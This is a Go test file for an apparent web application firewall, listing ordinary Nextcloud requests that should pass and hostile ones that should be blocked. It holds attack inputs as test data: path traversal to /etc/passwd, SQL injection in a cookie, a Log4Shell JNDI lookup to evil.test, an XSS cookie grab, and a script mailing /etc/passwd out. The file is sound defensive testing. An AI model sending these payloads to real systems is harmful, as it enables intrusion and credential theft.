package edge

import "testing"

func TestAppNextcloud(t *testing.T) {
	const (
		files   = "/remote.php/dav/files/ann/"
		davType = "application/xml; charset=utf-8"
	)
	dav := [][2]string{{"Depth", "1"}, {"OCS-APIRequest", "true"}, {"X-Requested-With", "XMLHttpRequest"}, {"requesttoken", "aGVsbG8gd29ybGQ=:eA=="}}
	usual := []appAsk{
		{
			name: "list a folder", request: "PROPFIND " + files + "Documents/", kind: davType, header: dav,
			body: `<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns" xmlns:nc="http://nextcloud.org/ns"><d:prop><d:getlastmodified/><oc:fileid/><nc:has-preview/></d:prop></d:propfind>`,
		},
		{
			name: "list a folder at level 2", level: 2, request: "PROPFIND " + files, kind: davType, header: dav,
			body: `<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:prop><d:getetag/></d:prop></d:propfind>`,
		},
		{name: "list in a folder of the server", request: "PROPFIND /cloud" + files, kind: davType, body: `<d:propfind xmlns:d="DAV:"/>`},
		{
			name: "search", request: "SEARCH /remote.php/dav/", kind: "text/xml", header: dav,
			body: `<d:searchrequest xmlns:d="DAV:"><d:basicsearch><d:from><d:scope><d:href>/files/ann</d:href></d:scope></d:from><d:where><d:like><d:prop><d:displayname/></d:prop><d:literal>%select ../etc/passwd%</d:literal></d:like></d:where></d:basicsearch></d:searchrequest>`,
		},
		{name: "new folder", request: "MKCOL " + files + "New", header: dav},
		{name: "picture", request: "PUT " + files + "cat.jpg", kind: "image/jpeg", body: "\xff\xd8\xff\xe0\x00\x10JFIF\x00&;=<?php %00", header: dav},
		{name: "archive", request: "PUT " + files + "a.tgz", kind: "application/octet-stream", body: "\x1f\x8b\x08\x00 ;cat /etc/passwd\n", header: dav},
		{name: "text about code", request: "PUT " + files + "notes.md", kind: "text/markdown", body: code + markup},
		{name: "text about code at level 2", level: 2, request: "PUT " + files + "notes.md", kind: "text/markdown", body: code + markup},
		{name: "JSON that is none", request: "PUT " + files + "a.json", kind: jsonType, body: `{"a": `},
		{name: "picture in XML", request: "PUT " + files + "a.svg", kind: "application/xml", body: `<svg onload="alert(1)"><script>alert(document.cookie)</script></svg>`},
		{name: "program", request: "PUT " + files + "src/backup.sh", kind: "application/x-sh", body: "#!/bin/sh\ncat /etc/passwd | mail -s x a@b.test; rm -rf /tmp/x\n"},
		{name: "program in Java", request: "PUT " + files + "A.java", kind: "text/x-java", body: "class A { void f() { java.lang.Runtime.getRuntime().exec(\"id\"); } }\nGET /a HTTP/1.1\n"},
		{name: "dump of a database", request: "PUT " + files + "dump.sql", kind: "application/sql", body: "DROP TABLE users; INSERT INTO users SELECT * FROM old;"},
		{name: "fetch what has a suspicious name", request: "GET " + files + "conf/.htaccess"},
		{name: "fetch a dump", request: "GET " + files + "dump.sql"},
		{name: "fetch a copy", request: "GET " + files + "index.php~"},
		{
			name: "piece of a large file", request: "PUT /remote.php/dav/uploads/ann/web-file-upload-1/00001", kind: "application/octet-stream", body: "\x00\x01;cat /etc/passwd",
			header: [][2]string{{"Content-Range", "bytes 0-15/100"}, {"OC-Total-Length", "100"}},
		},
		{name: "the pieces together", request: "MOVE /remote.php/dav/uploads/ann/web-file-upload-1/.file", header: [][2]string{{"Destination", "https://cloud.test/remote.php/dav/files/ann/it's%20a%20system().txt"}, {"X-OC-Mtime", "1700000000"}}},
		{name: "many small files at once", request: "POST /remote.php/dav/bulk", kind: "multipart/related; boundary=b", body: "--b\r\nX-File-Path: /a.sh\r\n\r\n#!/bin/sh\ncat /etc/passwd; id\r\n--b--\r\n"},
		{name: "lock", request: "LOCK " + files + "a.odt", kind: davType, body: `<d:lockinfo xmlns:d="DAV:"><d:lockscope><d:exclusive/></d:lockscope></d:lockinfo>`, header: [][2]string{{"If", "(<opaquelocktoken:1-2-3>)"}, {"Timeout", "Second-1800"}}},
		{name: "unlock", request: "UNLOCK " + files + "a.odt", header: [][2]string{{"Lock-Token", "<opaquelocktoken:1-2-3>"}}},
		{name: "delete", request: "DELETE " + files + "a.odt"},
		{name: "event", request: "PUT /remote.php/dav/calendars/ann/personal/1-2.ics", kind: "text/calendar; charset=utf-8", body: "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Lunch; select * from menu\r\nATTENDEE;CN=\"Bob\":mailto:bob@b.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"},
		{
			name: "events of a month", request: "REPORT /remote.php/dav/calendars/ann/personal/", kind: davType, header: dav,
			body: `<c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav"><d:prop><d:getetag/><c:calendar-data/></d:prop><c:filter><c:comp-filter name="VCALENDAR"><c:comp-filter name="VEVENT"><c:time-range start="20270101T000000Z" end="20270201T000000Z"/></c:comp-filter></c:comp-filter></c:filter></c:calendar-query>`,
		},
		{name: "contact", request: "PUT /remote.php/dav/addressbooks/users/ann/contacts/1.vcf", kind: "text/vcard", body: "BEGIN:VCARD\r\nFN:Bob\r\nNOTE:ls -la; cat /etc/hosts\r\nEND:VCARD\r\n"},
		{name: "comment on a file", request: "POST /remote.php/dav/comments/files/12", kind: jsonType, body: `{"actorType":"users","verb":"comment","message":"run cat /etc/passwd; id"}`},
		{name: "stranger stores by a share", request: "PUT /public.php/dav/files/AbCdEf123/a.bin", kind: "application/octet-stream", body: "\x00\x01;cat /etc/passwd"},
		{name: "share with a password", request: "POST /ocs/v2.php/apps/files_sharing/api/v1/shares", kind: jsonType, header: dav, body: `{"path":"/Documents","shareType":3,"password":` + quoted(password) + `}`},
		{name: "change a share", request: "PUT /ocs/v2.php/apps/files_sharing/api/v1/shares/7", header: dav, body: formOf("password", password)},
		{name: "new user", request: "POST /ocs/v2.php/cloud/users", kind: jsonType, header: dav, body: `{"userid":"bob","password":` + quoted(password) + `}`},
		{name: "password of a user", request: "PUT /ocs/v1.php/cloud/users/bob", header: dav, body: formOf("key", "password", "value", password)},
		{name: "delete a user", request: "DELETE /ocs/v2.php/cloud/users/bob", header: dav},
		{name: "setting of an app", request: "PUT /index.php/apps/files/api/v1/config/show_hidden", kind: jsonType, header: dav, body: `{"value":true}`},
		{name: "steps of the text editor", request: "POST /apps/text/session/12/push", kind: jsonType, header: dav, body: `{"documentId":12,"sessionId":3,"sessionToken":"x","steps":["AAABhg; cat /etc/passwd"],"awareness":"<b>x</b>"}`},
		{name: "text editor saves", request: "POST /index.php/apps/text/session/12/save", kind: jsonType, header: dav, body: `{"documentId":12,"autosaveContent":` + quoted(code+markup) + `,"documentState":"AAAA=="}`},
		{name: "note", request: "PUT /index.php/apps/notes/notes/12", kind: jsonType, header: dav, body: `{"content":` + quoted(code+markup) + `,"title":"cat /etc/hosts; ls -la"}`},
		{name: "log in", request: "POST /login", body: formOf("user", "ann", "password", password, "timezone", "Europe/Vienna", "timezone_offset", "1", "requesttoken", "aGVsbG8gd29ybGQ=:eA==")},
		{name: "log in at level 2", level: 2, request: "POST /index.php/login", body: formOf("user", "ann", "password", password, "timezone", "Europe/Vienna")},
		{name: "own password", request: "POST /settings/personal/changepassword", body: formOf("oldpassword", password, "newpassword", password, "newpassword-clone", password)},
		{name: "confirm", request: "POST /login/confirm", kind: jsonType, body: `{"password":` + quoted(password) + `}`},
		{name: "password of a share", request: "POST /s/AbCdEf123/authenticate/showShare", body: formOf("password", password, "sharingToken", "AbCdEf123", "sharingType", "3")},
	}
	hostile := []appAsk{
		{name: "behind another program's name", request: "POST /vulnerable.php/remote.php/dav/x", body: formOf("x", attacks["SQL injection"])},
		{name: "way up among files", request: "GET /remote.php/dav/files/ann/../../../etc/passwd"},
		{name: "encoded way up among files", request: "GET /remote.php/dav/files/ann/%2e%2e%2f%2e%2e%2fetc/passwd"},
		{name: "WebDAV elsewhere", request: "PROPFIND /"},
		{name: "PUT elsewhere", request: "PUT /data/x.php", body: "a=b"},
		{name: "method that WebDAV has not", request: "TRACE /remote.php/dav/"},
		{name: "settings by path", request: "GET /config/config.php.bak"},
		{name: "data by path", request: "GET /data/nextcloud.log"},
		{name: "overridden method", request: "POST /remote.php/dav/files/ann/a", header: [][2]string{{"X-HTTP-Method-Override", "DELETE"}}},
		{name: "file by path", request: "GET /index.php/apps/x/download?file=../../../../etc/passwd"},
		{name: "scanner", request: "PROPFIND /remote.php/dav/", header: [][2]string{{"User-Agent", "sqlmap/1.7"}}},
		{name: "PUT of text that is no file", request: "PUT /ocs/v2.php/cloud/x", body: formOf("value", attacks["SQL injection"])},
		{name: "in a cookie of an upload", request: "PUT " + files + "a", kind: "text/plain", body: "a", header: [][2]string{{"Cookie", "x=1' UNION SELECT pass FROM users-- -"}}},
		{name: "in a field of an upload's head", request: "PUT " + files + "a", kind: "text/plain", body: "a", header: [][2]string{{"X-A", "${jndi:ldap://evil.test/x}"}}},
	}
	for name, payload := range attacks {
		hostile = append(hostile,
			appAsk{name: name + " in the search", request: "GET /ocs/v2.php/search/providers/files/search?" + formOf("term", payload)},
			appAsk{name: name + " in the name at login", request: "POST /login", body: formOf("user", payload, "password", "x")},
			appAsk{name: name + " in the path of a share", request: "POST /ocs/v2.php/apps/files_sharing/api/v1/shares", kind: jsonType, body: `{"path":` + quoted(payload) + `,"shareType":3}`},
			appAsk{name: name + " in a user's name", request: "POST /ocs/v2.php/cloud/users", body: formOf("userid", payload, "password", "x")},
			appAsk{name: name + " in the content of another app", request: "POST /apps/polls/vote", kind: jsonType, body: `{"content":` + quoted(payload) + `}`},
			appAsk{name: name + " in a query of WebDAV", request: "GET " + files + "a?" + formOf("x", payload)},
		)
	}
	testApp(t, "nextcloud", usual, hostile)
}
